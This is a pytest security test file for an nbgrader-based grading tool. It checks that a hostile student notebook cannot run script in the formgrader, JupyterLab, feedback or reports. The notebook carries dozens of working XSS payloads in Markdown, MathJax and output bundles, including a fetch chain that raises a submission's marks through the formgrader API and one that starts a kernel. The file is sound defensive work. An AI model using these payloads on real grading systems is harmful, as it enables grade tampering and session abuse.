"""What students handed in is opened in the formgrader, JupyterLab and a browser: nothing runs."""

import base64
import contextlib
import json
import os
import shutil
import subprocess
import sys
import threading
import time
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import nbformat
import pytest
import requests
from nbformat.v4 import (
    new_code_cell,
    new_markdown_cell,
    new_notebook,
    new_raw_cell,
)
from nbgrader.api import Gradebook

from nbjudge.course import Course
from nbjudge.insight.report import Report

if shutil.which("chromium") is None and os.environ.get("NBJUDGE_HUB") == "required":
    raise RuntimeError("NBJUDGE_HUB=required, and there is no Chromium: apt-get install chromium")
if shutil.which("chromium") is None:
    pytest.skip("no Chromium here", allow_module_level=True)
if os.environ.get("NBJUDGE_HUB") != "required":
    pytest.importorskip("playwright")

from browser import chromium, new_page
from playwright.sync_api import Error

PS = "ps1"
CONFIG = """
from nbgrader.converters import Autograde, GenerateFeedback
from nbjudge.grading.restore.files import receive_files
from nbjudge.grading.steps import autograde_preprocessors, sanitize_preprocessors
from nbjudge.insight.hide_tests import feedback_preprocessors

c = get_config()
c.CourseDirectory.course_id = "victim"
c.Autograde.pre_convert_hook = receive_files
c.Autograde.sanitize_preprocessors = sanitize_preprocessors(
    Autograde.sanitize_preprocessors.default()
)
c.Autograde.autograde_preprocessors = autograde_preprocessors(
    Autograde.autograde_preprocessors.default()
)
c.GenerateFeedback.exporter_class = "nbjudge.insight.feedback.FeedbackExporter"
c.GenerateFeedback.preprocessors = feedback_preprocessors(GenerateFeedback.preprocessors.default())
"""
# The same with nothing made harmless: then the payloads must be seen to work.
AS_HANDED_IN = """
from nbjudge.grading.notebook.harmless import Harmless
for steps in (c.Autograde.sanitize_preprocessors, c.Autograde.autograde_preprocessors):
    steps.remove(Harmless)
"""
PIXEL = (
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJg"
    "gg=="
)
# Raises all marks of the submission that is open in the formgrader.
RAISE = """
fetch('/formgrader/api/grades?submission_id=' + submission_id).then(r => r.json()).then(all =>
  all.forEach(g => fetch('/formgrader/api/grade/' + g.id, {method: 'PUT',
    headers: {'X-CSRFToken': getCookie('_xsrf'), 'Content-Type': 'application/json'},
    body: JSON.stringify({manual_score: g.max_score, extra_credit: 99})})));
"""
KERNEL = """
fetch('/api/kernels', {method: 'POST', headers: {'X-XSRFToken': getCookie('_xsrf')}, body: '{}'});
"""


class Sink:
    """A server that remembers what was asked of it: the numbers of payloads that ran."""

    def __init__(self):
        reached = self.reached = set()

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self):
                reached.add(self.path.strip("/").partition("?")[0])
                self.send_response(204)
                self.end_headers()

            do_POST = do_GET  # noqa: N815 (http.server's name)

            def log_message(self, *arguments):
                pass

        self._server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self._server.server_address[1]}"
        threading.Thread(target=self._server.serve_forever, daemon=True).start()

    def __enter__(self):
        return self

    def __exit__(self, *exception):
        self._server.shutdown()
        self._server.server_close()


def payloads(sink):
    """{name: Markdown}, {name: an output's data}: each asks the sink for its name if it runs."""

    def js(name, more=""):
        text = f"fetch('{sink}/{name}',{{mode:'no-cors'}});{more}"
        return f"eval(atob('{base64.b64encode(text.encode()).decode()}'))"

    def coded(text):
        return "".join(f"&#{ord(letter)};" for letter in text)

    texts = {
        "img-onerror": f'<img src=x onerror="{js("img-onerror", RAISE)}">',
        "kernel": f'<img src=x onerror="{js("kernel", KERNEL)}">',
        "script": f"<script>{js('script')}</script>",
        "svg-onload": f'<svg onload="{js("svg-onload")}"></svg>',
        "iframe-srcdoc": f'<iframe srcdoc="<script>{js("iframe-srcdoc")}</script>"></iframe>',
        "details": f'<details open ontoggle="{js("details")}">x</details>',
        "autofocus": f'<input autofocus onfocus="{js("autofocus")}">',
        "style": f"<style>body {{ background: url({sink}/style) }}</style>",
        "link": f'<link rel=stylesheet href="{sink}/link">',
        "object": f'<object data="{sink}/object"></object>',
        "picture": f"![a picture]({sink}/picture)",
        "picture-by-name": f"![a picture][p]\n\n[p]: {sink}/picture-by-name",
        "comment": f"<!-- --><img src=x onerror='{js('comment')}'><!-- -->",
        "unclosed": f"text <img src=x onerror={js('unclosed')} \n",
        "in-math": f"$a <img src=x onerror={js('in-math')}> b$",
        "in-display": f"$$\n<img src=x onerror={js('in-display')}>\n$$",
        "in-environment": f"\\begin{{a}}<img src=x onerror={js('in-environment')}>\\end{{a}}",
        "mermaid": f"```mermaid\ngraph TD;\n<img src=x onerror={js('mermaid')}>\n```",
        "in-heading": f"# A heading <img src=x onerror={js('in-heading')}>",
        "in-table": f"| a |\n|---|\n| <img src=x onerror={js('in-table')}> |",
        "javascript": f"[click](javascript:{js('javascript')})",
        "javascript-coded": f"[click]({coded('javascript:')}{js('javascript-coded')})",
        "javascript-by-name": f"[click][j]\n\n[j]: javascript:{js('javascript-by-name')}",
        "javascript-angle": f"[click](<javascript:{js('javascript-angle')}>)",
        "javascript-files": f"[click](/files/javascript:{js('javascript-files')})",
        "javascript-tag": f'<a href="javascript:{js("javascript-tag")}">click</a>',
        "javascript-space": f"[click]( \n javascript:{js('javascript-space')})",
        "own-page": "[click](evil.html)",
        "own-page-by-scheme": "[click](http:evil.html)",
        "data-address": f"[click](data:text/html,<script>{js('data-address')}</script>)",
        "href": f"$\\href{{javascript:{js('href')}}}{{\\text{{click}}}}$",
        "href-coded": f"&#36;\\&#104;ref{{javascript:{js('href-coded')}}}{{x}}&#36;",
        "href-token": f'$\\mmlToken{{mi}}[href="javascript:{js("href-token")}"]{{x}}$',
        "style-in-math": f"$\\style{{background: url({sink}/style-in-math)}}{{x}}$",
        "macro": f"$\\let\\x=\\href \\x{{javascript:{js('macro')}}}{{x}}$",
        "lab-command": '<button data-commandlinker-command="terminal:create-new">click</button>',
        "raw": f"<img src=x onerror={js('raw')}>",
        "meta": f'<meta http-equiv="refresh" content="20; url={sink}/meta">',
    }
    html = f'<img src=x onerror="{js("out-html")}"><script>{js("out-script")}</script>'
    drawing = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{js("out-svg")}"></svg>'
    data = {
        "out-html": {"text/html": html},
        "out-javascript": {"application/javascript": js("out-javascript")},
        "out-svg": {"image/svg+xml": drawing},
        "out-svg-in-html": {"text/html": drawing},
        "out-markdown": {"text/markdown": f"<img src=x onerror={js('out-markdown')}>"},
        "out-markdown-link": {"text/markdown": f"[click](javascript:{js('out-markdown-link')})"},
        "out-latex": {"text/latex": f"$\\href{{javascript:{js('out-latex')}}}{{x}}$"},
        "out-latex-tag": {"text/latex": f"<img src=x onerror={js('out-latex-tag')}>"},
        "out-mermaid": {"text/vnd.mermaid": f"<img src=x onerror={js('out-mermaid')}>"},
        "out-png": {"image/png": f"x\" onerror=\"{js('out-png')}"},
        "out-widget": {"application/vnd.jupyter.widget-view+json": {"model_id": "a"}},
        "out-vega": {"application/vnd.vega.v5+json": {"data": [{"url": f"{sink}/out-vega"}]}},
        "out-plotly": {"application/vnd.plotly.v1+json": {"data": [], "layout": {}}},
        "out-pdf": {"application/pdf": "JVBERi0="},
    }  # fmt: skip
    return texts, data


def assignment():
    """One exercise with a test, and one answer that a person marks."""

    def marked(cell, name, **own):
        cell.metadata["nbgrader"] = {
            "grade_id": name, "schema_version": 3, "grade": False, "locked": False,
            "solution": False, "task": False, **own,
        }  # fmt: skip
        return cell

    hint = '<div style="color: green">The instructor\'s own <b>hint</b></div>'
    return new_notebook(
        metadata={"kernelspec": {"name": "python3", "language": "python", "display_name": "P"}},
        cells=[
            new_markdown_cell("# Exercises"),
            new_markdown_cell(hint),
            marked(
                new_code_cell("### BEGIN SOLUTION\ndouble = lambda x: 2 * x\n### END SOLUTION"),
                "double",
                solution=True,
            ),
            marked(new_code_cell("assert double(2) == 4"), "test_double", grade=True, points=2,
                   locked=True),
            marked(new_markdown_cell("*Your answer.*"), "why", grade=True, solution=True, points=3),
        ],
    )  # fmt: skip


def hostile(release, sink):
    """A submission with everything in it, and half of the marks that it would like to have."""
    texts, data = payloads(sink)
    raw = texts.pop("raw")
    nb = nbformat.from_dict(release)
    by_name = {cell.metadata.get("nbgrader", {}).get("grade_id"): cell for cell in nb.cells}
    by_name["double"].source = "double = lambda x: 3 * x"
    by_name["why"].source = "Because **2 > 1**.\n\n" + texts["img-onerror"]
    for name, text in texts.items():
        nb.cells.append(new_markdown_cell(f"{name}:\n\n{text}"))
    for name, bundle in data.items():
        text = f"from IPython.display import display\ndisplay({bundle!r}, raw=True)  # {name}"
        nb.cells.append(new_code_cell(text))
    nb.cells.append(new_raw_cell(raw))
    nb.cells.append(new_raw_cell(raw, metadata={"raw_mimetype": "text/html"}))
    drawing = base64.b64encode(data["out-svg"]["image/svg+xml"].encode()).decode()
    nb.cells.append(
        new_markdown_cell(
            "![a](attachment:a.svg)", attachments={"a.svg": {"image/svg+xml": drawing}}
        )
    )
    nb.cells.append(
        new_markdown_cell("![a](attachment:a.png)", attachments={"a.png": {"image/png": PIXEL}})
    )
    state = {"application/vnd.jupyter.widget-state+json": {"state": {}, "version_major": 2}}
    nb.metadata["widgets"] = state
    nb.metadata["title"] = f"</title>{texts['script']}"
    return nb


def honest(release):
    nb = nbformat.from_dict(release)
    by_name = {cell.metadata.get("nbgrader", {}).get("grade_id"): cell for cell in nb.cells}
    by_name["double"].source = "double = lambda x: x + x"
    by_name["why"].source = HONEST
    show = "from IPython.display import display, Image\nimport base64\nprint('a < b <b>')\n"
    nb.cells.append(
        new_code_cell(f"{show}display(Image(data=base64.b64decode('{PIXEL}')), {{'a': 1}})")
    )
    return nb


HONEST = """## My answer

It is **so**, if $a<b$ and $$\\int_0^1 x\\,dx = \\frac12,$$ see [the book](https://example.org/a_(b)).

* one
* `x < y` two

| a | b |
|---|---|
| 1 | 2 |

```python
if x<y: print("<b>")
```
"""


def make_course(folder, config, sink):
    (folder / "source" / PS).mkdir(parents=True)
    nbformat.write(assignment(), folder / "source" / PS / f"{PS}.ipynb")
    (folder / "nbgrader_config.py").write_text(config)
    course = Course(folder)
    course.run("generate_assignment", PS)
    release = course.read("release", PS)
    course.submit("mallory", PS, hostile(release, sink))
    own = folder / "submitted" / "mallory" / PS
    (own / "evil.html").write_text(f"<script>fetch('{sink}/own-page',{{mode:'no-cors'}})</script>")
    course.submit("ada", PS, honest(release))
    return course


@pytest.fixture(scope="module")
def sink():
    with Sink() as sink:
        yield sink


@pytest.fixture(scope="module")
def courses(tmp_path_factory, sink):
    """The class graded by both commands, and once with nothing made harmless."""
    folder = tmp_path_factory.mktemp("opened")
    ours = make_course(folder / "ours", CONFIG, sink.url)
    ours.run("autograde", PS)
    ours.run("generate_feedback", PS)
    fast = make_course(folder / "fast", CONFIG, sink.url)
    fast.run("grade", PS, "--jobs=1", module="nbjudge")
    plain = make_course(folder / "plain", CONFIG + AS_HANDED_IN, sink.url)
    plain.run("autograde", PS)
    return ours, fast, plain


@contextlib.contextmanager
def server(folder):
    """The address of JupyterLab with the formgrader, in a course folder."""
    from hub import free_ports

    (port,) = free_ports(1)
    environment = os.environ | {
        "JUPYTER_CONFIG_DIR": os.fspath(folder / ".jupyter"),
        "JUPYTER_DATA_DIR": os.fspath(folder / ".data"),
        "JUPYTERLAB_WORKSPACES_DIR": os.fspath(folder / ".workspaces"),
    }
    for path in (folder / "autograded").glob(f"*/{PS}/*.ipynb"):  # as if somebody had clicked Trust
        command = [sys.executable, "-m", "jupyter", "trust", os.fspath(path)]
        subprocess.run(command, env=environment, check=True, capture_output=True)
    with (folder / ".log").open("wb") as log:
        process = subprocess.Popen(
            [sys.executable, "-m", "jupyterlab", "--no-browser", "--allow-root",
             f"--ServerApp.port={port}", "--IdentityProvider.token="],
            cwd=folder, env=environment, stdout=log, stderr=log,
        )  # fmt: skip
    address = f"http://127.0.0.1:{port}"
    try:
        for _ in range(300):
            with contextlib.suppress(requests.ConnectionError):
                if requests.get(f"{address}/api", timeout=5).ok:
                    break
            time.sleep(0.2)
        else:
            raise RuntimeError((folder / ".log").read_text())
        yield address
    finally:
        process.terminate()
        process.wait()


def number_of(course, student):
    with Gradebook(f"sqlite:///{course.root / 'gradebook.db'}", "victim") as gradebook:
        return gradebook.find_submission(PS, student).notebooks[0].id


def kernels(address):
    return len(requests.get(f"{address}/api/kernels", timeout=10).json())


# Also what MathJax has made of a formula.
CLICKABLE = """[...document.querySelectorAll('a, button, mjx-container [href]')].filter(node =>
    node.textContent.includes('click') || node.matches('mjx-container *'))"""


def open_and_click(browser, address, there):
    """Open a page, click all that asks for it; returns its text and what its links lead to."""
    page = new_page(browser)
    page.on("dialog", lambda dialog: dialog.dismiss())
    page.goto(address, wait_until="domcontentloaded")
    page.locator(there).first.wait_for(state="attached")
    page.wait_for_timeout(1500)
    text = page.locator("body").inner_text()
    links = page.evaluate("[...document.querySelectorAll('a[href]')].map(a => a.href)")
    for place in range(page.evaluate(f"{CLICKABLE}.length")):
        for _ in range(5):
            try:
                event = "new MouseEvent('click', {bubbles: true, cancelable: true})"
                page.evaluate(f"{CLICKABLE}[{place}]?.dispatchEvent({event})")
                page.wait_for_timeout(100)
                if page.url != address:
                    page.goto(address, wait_until="domcontentloaded")
                    page.locator(there).first.wait_for(state="attached")
                break
            except Error:  # a click before it leads elsewhere at this moment
                page.wait_for_timeout(500)
                page.goto(address, wait_until="domcontentloaded")
                page.locator(there).first.wait_for(state="attached")
    page.wait_for_timeout(1000)
    page.context.close()
    return text, links


SCORE = ".nbgrader_cell .score"


def formgrader(address, course, student):
    return f"{address}/formgrader/submissions/{number_of(course, student)}/"


@pytest.mark.filterwarnings("ignore")
def test_the_payloads_work_where_nothing_is_made_harmless(courses, sink):
    plain = courses[2]
    before = plain.marks(PS)["mallory"]
    sink.reached.clear()
    with server(plain.root) as address, chromium() as browser:
        open_and_click(browser, formgrader(address, plain, "mallory"), SCORE)
        assert kernels(address)
    print(sorted(sink.reached))
    assert len(sink.reached) >= 20
    assert {"img-onerror", "kernel", "script", "javascript", "own-page", "picture", "out-html",
            "out-javascript", "mermaid"} <= sink.reached  # fmt: skip
    assert sum(before.values()) == 0
    assert sum(plain.marks(PS)["mallory"].values()) > 100


@pytest.mark.filterwarnings("ignore")
@pytest.mark.parametrize("which", [0, 1], ids=["autograde", "grade"])
def test_nothing_of_a_student_runs_in_formgrader_or_lab(courses, sink, which):
    course = courses[which]
    before = course.marks(PS)
    sink.reached.clear()
    with server(course.root) as address, chromium() as browser:
        text, links = open_and_click(browser, formgrader(address, course, "mallory"), SCORE)
        assert not kernels(address)
        assert "Because 2 > 1." in text
        assert text.count("< img src=x onerror=") > 5  # a person sees that it was there
        assert "Not shown, since it could run in a browser: application/javascript" in text
        hosts = ("http://127.0.0.1", "mailto:")
        assert not [link for link in links if not link.startswith(hosts)]
        if which == 0:
            lab = f"{address}/lab/tree/autograded/mallory/{PS}/{PS}.ipynb"
            open_and_click(browser, lab, ".jp-RenderedMarkdown")
    assert not sink.reached
    assert course.marks(PS) == before


@pytest.mark.filterwarnings("ignore")
def test_what_an_honest_student_wrote_is_shown_as_it_was_meant(courses):
    course = courses[0]
    with server(course.root) as address, chromium() as browser:
        page = new_page(browser)
        page.goto(formgrader(address, course, "ada"), wait_until="domcontentloaded")
        page.locator(SCORE).first.wait_for(state="attached")
        shown = page.locator("#notebook-container").first
        for tag in ("h2", "strong", "ul li", "td", "pre", 'a[href="https://example.org/a_(b)"]'):
            assert shown.locator(tag).count(), tag
        assert shown.locator('img[src^="data:image/png"]').count() == 1
        assert "a < b <b>" in shown.inner_text()
        assert shown.locator("div[style] b", has_text="hint").count() == 1  # the instructor's own
        page.goto(formgrader(address, course, "mallory"), wait_until="domcontentloaded")
        page.locator(SCORE).first.wait_for(state="attached")
        assert page.locator('img[src^="data:image/png"]').count() == 1  # an attached picture


@pytest.mark.filterwarnings("ignore")
def test_the_formgraders_dialog_tells_of_no_message_of_the_kernel(courses):
    course = courses[1]
    with server(course.root) as address, chromium() as browser:
        page = new_page(browser)
        page.goto(formgrader(address, course, "ada"), wait_until="domcontentloaded")
        told = page.evaluate(
            f"""() => fetch('/formgrader/api/submission/{PS}/ada/autograde', {{method: 'POST',
                headers: {{'X-CSRFToken': getCookie('_xsrf')}}}}).then(answer => answer.json())"""
        )
    assert told["success"], told
    assert "Autograding" in told["log"]
    assert "msg_type" not in told["log"]
    assert len(told["log"].splitlines()) < 60


@pytest.mark.filterwarnings("ignore")
def test_nothing_runs_in_feedback_and_report(courses, sink):
    course = courses[0]
    sink.reached.clear()
    page = Report(course.directory, PS).write(course.root / "reports")
    feedback = course.root / "feedback" / "mallory" / PS / f"{PS}.html"
    with chromium() as browser:
        for path in (page, feedback):
            open_and_click(browser, path.as_uri(), "h1")
    assert not sink.reached


def test_what_was_handed_in_stays_as_it_was(courses, sink):
    for course in courses[:2]:
        text = (course.root / "submitted" / "mallory" / PS / f"{PS}.ipynb").read_text()
        assert json.loads(text) == hostile_as_written(course, sink)


def hostile_as_written(course, sink):
    nb = hostile(course.read("release", PS), sink.url)
    own = json.loads(nbformat.writes(nb))
    written = json.loads(
        (course.root / "submitted" / "mallory" / PS / f"{PS}.ipynb").read_text(encoding="utf-8")
    )
    for mine, theirs in zip(own["cells"], written["cells"], strict=True):
        mine["id"] = theirs["id"]  # drawn afresh
    return own
